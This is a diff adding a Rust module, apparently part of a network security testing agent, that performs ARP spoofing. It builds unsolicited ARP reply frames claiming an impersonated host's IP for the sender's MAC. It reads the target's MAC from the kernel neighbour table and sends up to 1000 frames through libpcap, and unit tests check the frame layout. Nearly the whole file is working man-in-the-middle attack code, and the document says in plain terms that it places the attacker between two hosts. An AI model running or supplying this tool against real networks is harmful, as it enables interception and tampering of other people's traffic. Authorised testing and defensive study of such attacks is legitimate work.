@@ -1,0 +1,185 @@
+//! `arp-spoof`: unsolicited ARP replies ("`impersonate` is at my MAC address") sent to
+//! `target` with libpcap's `sendpacket`, a bounded number of times. On a flat network this
+//! puts the attacker on the path between the target and the host it impersonates (the
+//! unprotected-networks threat); on another segment the frames reach nobody.
+//!
+//! The target's MAC address comes from `--target-mac`, else from the kernel's neighbour
+//! table (`/proc/net/arp`), else the frames are broadcast. Linux updates an *existing*
+//! neighbour entry from an unsolicited reply (it does not create one unless `arp_accept`).
+
+use crate::error::AgentError;
+use serde_json::{Value, json};
+use std::net::Ipv4Addr;
+use std::time::{Duration, Instant};
+
+pub const MAX_COUNT: u32 = 1000;
+
+#[derive(Debug, Clone)]
+pub struct ArpOptions {
+    pub iface: String,
+    pub target: Ipv4Addr,
+    pub impersonate: Ipv4Addr,
+    pub target_mac: Option<[u8; 6]>,
+    pub count: u32,
+    pub interval: Duration,
+}
+
+pub fn parse_mac(s: &str) -> Option<[u8; 6]> {
+    let parts: Vec<u8> = s
+        .trim()
+        .split(':')
+        .map(|p| u8::from_str_radix(p, 16).ok())
+        .collect::<Option<_>>()?;
+    parts.try_into().ok()
+}
+
+pub fn mac_string(m: &[u8; 6]) -> String {
+    m.iter()
+        .map(|b| format!("{b:02x}"))
+        .collect::<Vec<_>>()
+        .join(":")
+}
+
+/// Our MAC address on `iface` (from sysfs).
+pub fn iface_mac(iface: &str) -> Result<[u8; 6], AgentError> {
+    if iface.contains('/') || iface.contains("..") {
+        return Err(AgentError::other(format!(
+            "'{iface}' is not an interface name"
+        )));
+    }
+    let p = format!("/sys/class/net/{iface}/address");
+    let s = std::fs::read_to_string(&p)
+        .map_err(|e| AgentError::other(format!("no interface '{iface}' ({p}: {e})")))?;
+    parse_mac(&s).ok_or_else(|| AgentError::other(format!("cannot read the MAC address in {p}")))
+}
+
+/// The MAC of `ip` in the kernel's neighbour table, if known and complete.
+pub fn neighbour_mac(ip: Ipv4Addr, table: &str) -> Option<[u8; 6]> {
+    table.lines().skip(1).find_map(|l| {
+        let f: Vec<&str> = l.split_whitespace().collect();
+        (f.len() >= 4 && f[0] == ip.to_string() && f[2] != "0x0")
+            .then(|| parse_mac(f[3]))
+            .flatten()
+            .filter(|m| m != &[0u8; 6])
+    })
+}
+
+/// An Ethernet frame carrying an ARP reply: "`sender_ip` is at `sender_mac`", to
+/// (`target_mac`, `target_ip`).
+pub fn arp_reply(
+    sender_mac: [u8; 6],
+    sender_ip: Ipv4Addr,
+    target_mac: [u8; 6],
+    target_ip: Ipv4Addr,
+) -> Vec<u8> {
+    let mut f = Vec::with_capacity(42);
+    f.extend_from_slice(&target_mac);
+    f.extend_from_slice(&sender_mac);
+    f.extend_from_slice(&[0x08, 0x06]); // EtherType ARP
+    f.extend_from_slice(&[0x00, 0x01, 0x08, 0x00, 6, 4, 0x00, 0x02]); // Ethernet/IPv4, reply
+    f.extend_from_slice(&sender_mac);
+    f.extend_from_slice(&sender_ip.octets());
+    f.extend_from_slice(&target_mac);
+    f.extend_from_slice(&target_ip.octets());
+    f
+}
+
+pub fn spoof(o: &ArpOptions) -> Result<Value, (Value, AgentError)> {
+    let start = Instant::now();
+    let mut v = json!({
+        "action": "arp-spoof",
+        "success": false,
+        "iface": o.iface,
+        "target": o.target.to_string(),
+        "impersonate": o.impersonate.to_string(),
+        "sent": 0,
+    });
+    let ours = match iface_mac(&o.iface) {
+        Ok(m) => m,
+        Err(e) => return Err((v, e)),
+    };
+    let (dst, how) = match o.target_mac {
+        Some(m) => (m, "given"),
+        None => match std::fs::read_to_string("/proc/net/arp")
+            .ok()
+            .and_then(|t| neighbour_mac(o.target, &t))
+        {
+            Some(m) => (m, "neighbour table"),
+            None => ([0xff; 6], "broadcast"),
+        },
+    };
+    v["our_mac"] = json!(mac_string(&ours));
+    v["target_mac"] = json!(mac_string(&dst));
+    v["target_mac_from"] = json!(how);
+    let mut cap = match pcap::Capture::from_device(o.iface.as_str())
+        .and_then(|c| c.snaplen(128).timeout(100).open())
+    {
+        Ok(c) => c,
+        Err(e) => {
+            return Err((
+                v,
+                AgentError::other(format!(
+                    "{:#}",
+                    crate::sniff::explain_open_error(&o.iface, &e)
+                )),
+            ));
+        }
+    };
+    let frame = arp_reply(ours, o.impersonate, dst, o.target);
+    let mut sent = 0u32;
+    let count = o.count.clamp(1, MAX_COUNT);
+    for i in 0..count {
+        if i > 0 {
+            std::thread::sleep(o.interval);
+        }
+        match cap.sendpacket(frame.as_slice()) {
+            Ok(()) => sent += 1,
+            Err(e) => {
+                v["sent"] = json!(sent);
+                return Err((v, AgentError::other(format!("sendpacket failed: {e}"))));
+            }
+        }
+    }
+    v["sent"] = json!(sent);
+    v["success"] = json!(sent == count);
+    v["elapsed_ms"] = json!(start.elapsed().as_millis() as u64);
+    Ok(v)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn frame_layout() {
+        let f = arp_reply(
+            [2, 0, 0, 0, 0, 5],
+            "10.213.0.3".parse().unwrap(),
+            [2, 0, 0, 0, 0, 2],
+            "10.213.0.2".parse().unwrap(),
+        );
+        assert_eq!(f.len(), 42);
+        assert_eq!(&f[12..14], &[0x08, 0x06]);
+        assert_eq!(&f[20..22], &[0, 2]); // opcode reply
+        assert_eq!(&f[22..28], &[2, 0, 0, 0, 0, 5]); // sender MAC: ours
+        assert_eq!(&f[28..32], &[10, 213, 0, 3]); // sender IP: the impersonated host
+        assert_eq!(&f[38..42], &[10, 213, 0, 2]);
+    }
+
+    #[test]
+    fn neighbour_table() {
+        let t = "IP address       HW type     Flags       HW address            Mask     Device\n\
+                 10.213.0.2       0x1         0x2         02:42:0a:d5:00:02     *        eth0\n\
+                 10.213.0.9       0x1         0x0         00:00:00:00:00:00     *        eth0\n";
+        assert_eq!(
+            neighbour_mac("10.213.0.2".parse().unwrap(), t),
+            Some([2, 0x42, 10, 0xd5, 0, 2])
+        );
+        assert_eq!(neighbour_mac("10.213.0.9".parse().unwrap(), t), None);
+        assert_eq!(
+            parse_mac("aa:bb:cc:dd:ee:ff"),
+            Some([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff])
+        );
+        assert_eq!(parse_mac("aa:bb"), None);
+    }
+}
